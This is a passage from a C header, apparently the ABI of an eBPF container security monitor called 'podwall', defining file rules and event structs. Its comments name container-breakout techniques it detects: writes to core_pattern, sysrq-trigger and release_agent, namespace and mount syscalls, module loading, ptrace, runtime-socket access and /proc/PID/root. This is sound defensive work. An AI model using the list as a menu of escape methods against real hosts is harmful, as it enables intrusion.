#define PW_MAP_WRITTEN_FILES_NAME "pw_written_files"
#define PW_MAP_SCRIPT_EXECS_NAME  "pw_script_execs"
#define PW_MAP_SCRIPTS_OPEN_NAME  "pw_scripts_open"
#define PW_FILE_PATH_BYTES	  256
#define PW_FILE_RULES_ENTRIES	  4096
#define PW_FILE_NAMES_ENTRIES	  1024
/* Path components walked from a file to its root: deeper paths are cut
 * (PW_FILE_PATH_CUT) and keep their last components. */
#define PW_FILE_PATH_DEPTH 24

/* What a prefix rule watches (the value of the prefix table). */
enum pw_file_rule_flag {
	PW_FILE_RULE_WRITE = 1 << 0,	/* a write, create, delete, rename, chmod or chown here is reported */
	PW_FILE_RULE_READ = 1 << 1,	/* a read here is reported (sensitive: secrets, keys) */
	PW_FILE_RULE_BREAKOUT = 1 << 2, /* a write here is a breakout attempt (core_pattern, sysrq-trigger) */
	PW_FILE_RULE_KILL = 1 << 3,	/* a write here is killed at the syscall (a deny rule) */
	PW_FILE_RULE_NO_EXEC = 1 << 4,	/* a pod-written program here is killed at exec (/tmp, /dev/shm) */
};

struct pw_file_rule {
	__u32 flags; /* enum pw_file_rule_flag */
	__u32 id;    /* the agent's index of the rule */
};

/* The prefix table's key (an LPM trie over the path's bytes). */
struct pw_path_key {
	__u32 prefixlen; /* bits */
	char path[PW_FILE_PATH_BYTES];
};

/* The names (last path component) the open program judges by name (the
 * value: enum pw_file_rule_flag): READ, a read of it is judged against the
 * prefix rules (a read-only open of any other name costs one hash lookup);
 * BREAKOUT, a write of it anywhere is a breakout (`release_agent`, wherever
 * the pod mounted cgroupfs), reported with rule id PW_FILE_RULE_BY_NAME. */
struct pw_file_name_key {
	char name[32];
};
#define PW_FILE_RULE_BY_NAME 0xffffffffU

enum pw_file_op {
	PW_FILE_OPEN = 1,    /* an open for writing (or a sensitive read) */
	PW_FILE_UNLINK = 2,  /* unlink, unlinkat, rmdir */
	PW_FILE_RENAME = 3,  /* rename*: `path` the old name, `target` the new */
	PW_FILE_LINK = 4,    /* link*: `path` the existing file, `target` the new name */
	PW_FILE_SYMLINK = 5, /* symlink*: `target` the new name, `path` what it points to */
	PW_FILE_CHMOD = 6,   /* `mode` the new mode */
	PW_FILE_CHOWN = 7,
	PW_FILE_TRUNCATE = 8,
	PW_FILE_READ = 9,    /* an open for reading only (PW_FILE_RULE_READ) */
	PW_FILE_SCRIPT = 10, /* the interpreter of a `#!` script a pod's process wrote opened it */
};

enum pw_file_flag {
	PW_FILE_KILLED = 1 << 0,     /* the program sent SIGKILL at the syscall */
	PW_FILE_PATH_CUT = 1 << 1,   /* deeper than PW_FILE_PATH_DEPTH or longer than the buffer */
	PW_FILE_CREATED = 1 << 2,    /* the open may have created the file (O_CREAT) */
	PW_FILE_UNRESOLVED = 1 << 3, /* a relative name whose directory could not be read */
	/* The file is outside the process's root (reached through another
	 * mount namespace, /proc/PID/root, or a directory fd from before a
	 * chroot): a breakout; `path` is from that namespace's root. */
	PW_FILE_OUTSIDE_ROOT = 1 << 4,
};

enum pw_file_event_type {
	PW_EVENT_FILE = 21,
	PW_EVENT_BREAKOUT = 22,
};

struct pw_file_event {
	struct pw_event_header header; /* PW_EVENT_FILE */
	struct pw_process_id process;
	__u32 uid;
	__u16 op; /* enum pw_file_op */
	__u16 pad;
	__u32 flags;	  /* enum pw_file_flag */
	__u32 rule_flags; /* the matched rule's (of `path` or `target`) */
	__u32 rule_id;
	__u32 mode;  /* open: the file's f_flags; chmod: the new mode */
	__u64 inode; /* open: the opened file's */
	char comm[16];
	char path[PW_FILE_PATH_BYTES];	 /* container path, NUL-terminated */
	char target[PW_FILE_PATH_BYTES]; /* rename, link, symlink: the new name */
};

/* Syscalls that reach out of the container, reported from a pod whatever
 * their outcome (judged at entry: the syscall itself still runs; a kill
 * stops the process before it returns to its code). */
enum pw_breakout_op {
	PW_BREAKOUT_SETNS = 1,	 /* `arg` nstype */
	PW_BREAKOUT_UNSHARE = 2, /* `arg` the CLONE_NEW* flags asked */
	PW_BREAKOUT_MOUNT = 3,	 /* `path` target, `detail` file system type; `arg` flags */
	PW_BREAKOUT_MODULE = 4,	 /* init_module, finit_module */
	PW_BREAKOUT_PTRACE =
		5, /* ATTACH or SEIZE: `arg` request, `target_pid` the traced pid (as the pod numbers it) */
	PW_BREAKOUT_RUNTIME_SOCKET = 6, /* connect() to a container runtime's socket; `path` its name */
	PW_BREAKOUT_MOUNT_API = 7,	/* fsopen, move_mount (the mount API of 5.2) */
};

/* unshare() flags that make a new namespace a breakout needs (user, mount,
 * cgroup; pid and net alone are sandboxing, as browsers do). */
#define PW_BREAKOUT_UNSHARE_FLAGS                                                                                      \
	(0x10000000 /* CLONE_NEWUSER */ | 0x00020000 /* CLONE_NEWNS */ | 0x02000000 /* CLONE_NEWCGROUP */)

struct pw_breakout_event {
	struct pw_event_header header; /* PW_EVENT_BREAKOUT, at the syscall's entry */
	struct pw_process_id process;
	__u32 uid;
	__u32 op;    /* enum pw_breakout_op */
	__u32 flags; /* PW_FILE_KILLED */
	__u32 target_pid;
	__u64 arg;
	char comm[16];
	char detail[32];
	char path[PW_FILE_PATH_BYTES];
};

#endif /* PODWALL_ABI_H */
